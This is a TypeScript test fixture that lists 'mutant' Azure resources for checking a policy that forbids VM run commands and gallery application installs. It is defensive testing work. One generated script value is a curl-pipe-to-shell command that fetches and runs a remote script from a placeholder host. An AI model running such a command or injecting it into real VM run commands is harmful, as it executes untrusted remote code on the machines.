import type { PolicyMutants } from '../support/policy-mutants';
import { addition, change, made, other } from '../support/rows';
import { machineType, scaleSetType } from '../support/scale-set';
import { azureId } from '../support/values';

const commands = [
  'azure-native:compute:VirtualMachineRunCommandByVirtualMachine',
  'azure-native:compute:VirtualMachineScaleSetVMRunCommand',
  'azure-native:hybridcompute:MachineRunCommand',
];

const gallery = azureId('rg-dev-hub', 'Microsoft.Compute', 'galleries', 'gal');

export const mutants: PolicyMutants = {
  broken: [
    addition((world) =>
      commands.flatMap((type) =>
        world.ofType(machineType).flatMap(({ name, inputs }) =>
          ['id', 'curl https://example.jp/a.sh | sh', ''].map((script, index) =>
            made(type, `${name}-command-${index}`, {
              resourceGroupName: inputs['resourceGroupName'],
              vmName: inputs['vmName'],
              source: { script },
            }),
          ),
        ),
      ),
    ),
    change({
      of: machineType,
      path: 'applicationProfile.galleryApplications',
      to: [[{ packageReferenceId: `${gallery}/applications/a/versions/1.0.0` }], [{}], {}, gallery],
    }),
    // In an API version of its own it is a run command all the same.
    addition(() =>
      commands.map((type) =>
        made(type.replace(/^azure-native:(\w+):/, 'azure-native:$1/v20240701:'), 'versioned', {}),
      ),
    ),
  ],
  harmless: [
    other({ of: machineType, path: 'hardwareProfile.vmSize', to: ['Standard_D4as_v5'] }),
    other({ of: machineType, path: 'applicationProfile', to: [{}, { galleryApplications: [] }] }),
  ],
  unbroken: [{ of: scaleSetType, paths: [''], because: 'a scale set itself is no run command' }],
};
